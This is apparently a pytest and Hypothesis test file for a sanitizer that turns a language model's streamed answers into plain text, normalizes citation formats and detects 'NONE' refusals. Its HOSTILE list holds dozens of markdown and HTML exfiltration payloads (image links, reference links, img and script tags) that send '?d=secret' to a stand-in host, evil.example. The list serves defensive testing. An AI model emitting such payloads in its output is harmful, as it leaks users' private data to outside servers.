"""The model's output becomes plain text: nothing that a client could follow or load, and citations in one form."""

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import settings as extent
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from memories.persona.model_output import ModelOutput
from memories.persona.plain_text import find_urls

KNOWN = "My site is https://ada.example/notes, or www.ada.example"
ACTIVE = {"link_open", "image", "html_inline", "html_block"}
HOSTILE = [
    "See ![x](https://evil.example/p.png?d=secret) [1]",
    "See ![a\nb](https://evil.example/p.png?d=secret) [1]",
    "See ![a[b]c](https://evil.example/p.png?d=secret) [1]",
    f"See ![{'a' * 300}](https://evil.example/p.png?d=secret) [1]",
    "See ![x](<https://evil.example/a b?d=secret>) [1]",
    "See ![x](https://evil.example/a(b)?d=secret) [1]",
    'See ![x](https://evil.example/?d=secret "title") [1]',
    "See [this](https://evil.example/?d=secret) [1]",
    "See [this][link] [1]\n\n[link]: https://evil.example/?d=secret",
    "See [1]\n\n[1]: https://evil.example/?d=secret",
    "See [1]\n\n[1]:\nhttps://evil.example/?d=secret 'title'",
    "See [1](https://evil.example/?d=secret)",
    "See [1] (https://evil.example/?d=secret)",
    'See <img src="https://evil.example/?d=secret"> [1]',
    'See <img src="https://evil.example/?d=secret [1]',
    'See [1] <img src="https://evil.example/?d=secret',
    "See &lt;img src=https://evil.example/?d=secret&gt; [1]",
    "See &amp;lt;img src=https://evil.example/?d=secret&amp;gt; [1]",
    "See <a href='https://evil.example/?d=secret'>this</a> [1]",
    "<p>See <b>this</b> [1]</p>\n\n<script>fetch('https://evil.example/?d=secret')</script>",
    "<svg><image href='https://evil.example/?d=secret'/></svg> See [1]",
    "See <https://evil.example/?d=secret> [1]",
    "See https://evil.example/?d=secret [1]",
    "See HTTPS://evil.example/?d=secret. [1]",
    "See www.evil.example/?d=secret [1]",
    "See evil.example/?d=secret [1]",
    "See //evil.example/?d=secret [1]",
    "See ftp://evil.example/secret [1]",
    "See javascript:alert(1) [1]",
    r"See !\[x\](https://evil.example/?d=secret) [1]",
    "See `![x](https://evil.example/?d=secret)` [1]",
    "See !&#91;x&#93;(https://evil.example/?d=secret) [1]",
    "> - See ![x](https://evil.example/?d=secret) [1]",
    "    ![x](https://evil.example/?d=secret) [1]",
    "```\n![x](https://evil.example/?d=secret) [1]\n```",
    "| a |\n|---|\n| ![x](https://evil.example/?d=secret) [1] |",
    "See [[1]](https://evil.example/?d=secret)",
    "See [a]: https://evil.example/?d=secret [1]",
    "[^1]: https://evil.example/?d=secret\n\nSee [^1]",
    "See !\u202e[x](https://evil.example/?d=secret) [1]",
    "See <!-- https://evil.example/?d=secret --> [1]",
]


def read(pieces: list[str], sources: int = 3, known: str = KNOWN) -> tuple[str, ModelOutput]:
    output = ModelOutput(range(1, sources + 1), find_urls([known]))
    shown = "".join([output.feed(piece) for piece in pieces])
    return shown + output.end(), output


def render(text: str) -> str:
    return read([text])[1].text


def assert_inactive(text: str) -> None:
    tokens = MarkdownIt("commonmark").parse(text)
    kinds = {token.type for token in tokens} | {
        child.type for token in tokens for child in token.children or ()
    }
    assert not kinds & ACTIVE, text
    assert "evil.example" not in text
    assert "secret" not in text
    assert not any(mark in text for mark in ("](", "]:", "://", "www.evil"))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_could_be_followed_is_left(hostile: str) -> None:
    for size in (1, 3, 8, len(hostile)):
        pieces = [hostile[start : start + size] for start in range(0, len(hostile), size)]
        shown, output = read(pieces)
        assert_inactive(output.text)
        assert_inactive(shown)
        assert output.cited == {1}


@extent(max_examples=200, deadline=None)
@given(
    parts=st.lists(
        st.sampled_from(
            ["![", "[", "]", "(", ")", "<", ">", "https://evil.example/?d=secret", ":", "\n", "a", " "]
        )
    ),
    places=st.lists(st.integers(0, 200), max_size=6),
)
def test_no_combination_of_marks_is_followed(parts: list[str], places: list[int]) -> None:
    text = "".join(parts)
    bounds = [0, *sorted(place % (len(text) + 1) for place in places), len(text)]
    shown, output = read([text[start:end] for start, end in pairwise(bounds)])
    assert_inactive(output.text)
    assert_inactive(shown)


@pytest.mark.parametrize(
    ("written", "cited"),
    [
        ("Nuts [1].", {1}),
        ("Nuts [1, 2].", {1, 2}),
        ("Nuts [1][2].", {1, 2}),
        ("Nuts [1; 2].", {1, 2}),
        ("Nuts [1-3].", {1, 2, 3}),
        ("Nuts [1\u20133].", {1, 2, 3}),
        ("Nuts [1 and 3].", {1, 3}),
        ("Nuts [^1].", {1}),
        ("Nuts [#1].", {1}),
        ("Nuts [memory 1].", {1}),
        ("Nuts [Memory #1, Memory #2].", {1, 2}),
        ("Nuts [memories 1 and 2].", {1, 2}),
        ("Nuts [source: 2].", {2}),
        ("Nuts \u30101\u3011.", {1}),
        ("Nuts \u30102\u2020source\u3011.", {2}),
        ("Nuts \u30101\u2020L3-L5\u3011.", {1}),
        ("Nuts \uff3b1\uff3d.", {1}),
        ("Nuts [[1]].", {1}),
        ("Nuts (1).", {1}),
        ("Nuts (1, 2).", {1, 2}),
        ("Nuts (memory 1).", {1}),
        ("Two (2) nuts [1].", {1}),
        ("Nuts [1, 77] and [9].", {1}),
        ("Nuts (1984) and [77].", set()),
        ("Nuts in [Room 1].", set()),
    ],
)
def test_citations_are_read_in_each_form(written: str, cited: set[int]) -> None:
    output = read([written])[1]
    assert output.cited == cited
    assert all(f"[{number}]" in output.text for number in cited)
    assert not any(mark in output.text for mark in "\u3010\u3011\u2020\ue000\ue001^")


@pytest.mark.parametrize(
    "written",
    [
        "NONE",
        "None.",
        "none",
        '"NONE"',
        "**NONE**",
        "`NONE`",
        "(NONE)",
        "NONE\u3002",
        "NONE - the memories do not say.",
        "None \u2014 the memories do not say.",
        "NONE. Memory [1] is about something else.",
        "NONE\n\nThe memories do not mention it.",
        "Answer: NONE",
        "None of the memories mention it.",
        "The memories do not say.\n\nNONE",
        "```\nNONE\n```",
        '{"answer": "NONE"}',
        "\n\n NONE",
    ],
)
def test_refusals_are_recognized(written: str) -> None:
    for pieces in (list(written), [written]):
        assert read(pieces)[1].is_none


@pytest.mark.parametrize(
    "written", ["NONE", "None.", "**NONE**", "NONE - the memories do not say.", "None of the memories say."]
)
def test_nothing_of_a_refusal_is_shown(written: str) -> None:
    assert read(list(written))[0] == ""


@pytest.mark.parametrize(
    "written", ["None but peanuts [1].", "Nonetheless nuts [1].", "NONE BUT NUTS [1]", "No [2]."]
)
def test_answers_that_begin_like_a_refusal_are_shown(written: str) -> None:
    shown, output = read(list(written))
    assert not output.is_none
    assert shown == output.text == written


@pytest.mark.parametrize(
    "written",
    [
        '{"answer": "Nuts [1]."}',
        '```json\n{"answer": "Nuts [1].", "citations": [1]}\n```',
        "```\nNuts [1].\n```",
        '{"Response": "Nuts [1]."}',
        "**Nuts** [1].",
        "# Nuts [1].",
        "<answer>Nuts [1].</answer>",
        "`Nuts` [1].",
    ],
)
def test_answer_is_taken_out_of_its_wrapping(written: str) -> None:
    for pieces in (list(written), [written]):
        shown, output = read(pieces)
        assert output.text == "Nuts [1]."
        assert shown in ("Nuts [1].", "")


@pytest.mark.parametrize("written", ['{"answer": 1}', '{"answer": ', "{}", "{" * 5_000])
def test_json_without_answer_has_no_text(written: str) -> None:
    assert read([written])[1].text == ""


@pytest.mark.parametrize(
    "text",
    [
        "Call *31*0123# [1].",
        "2*3*4 = 24 [1]",
        r"It is in C:\[x]\_temp [1]",
        "5 < 6 and I <3 nuts, AT&T [1]",
        "snake_case_name and (brackets) [1]",
        "First, nuts [1].\nThen more [2].",
        "First [1].\n\nThen [2].",
        "- nuts [1]\n- peas [2]",
        "1. nuts [1]\n2. peas [2]",
        "- nuts [1]\n  - peas [2]",
        "At 7:30, 3/4 of it, e.g. and/or, 12.5. [1]",
        "Write to bob@example.com [1]",
        "See https://ada.example/notes. Or www.ada.example! [1]",
        "Ορίστε 坚果 [1] 🥜",
    ],
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert render(text) == text


def test_text_is_shown_while_it_arrives() -> None:
    output = ModelOutput(range(1, 4), ())
    pieces = [
        "You",
        " are",
        " allergic",
        " to",
        " nuts",
        " [1",
        "],",
        " **above",
        " all**",
        " peanuts",
        " [2].",
    ]
    shown = [output.feed(piece) for piece in pieces]
    assert shown[:5] == ["You", " are", " allergic", " to", " nuts"]
    assert "".join(shown) + output.end() == output.text
    assert output.text == "You are allergic to nuts [1], above all peanuts [2]."
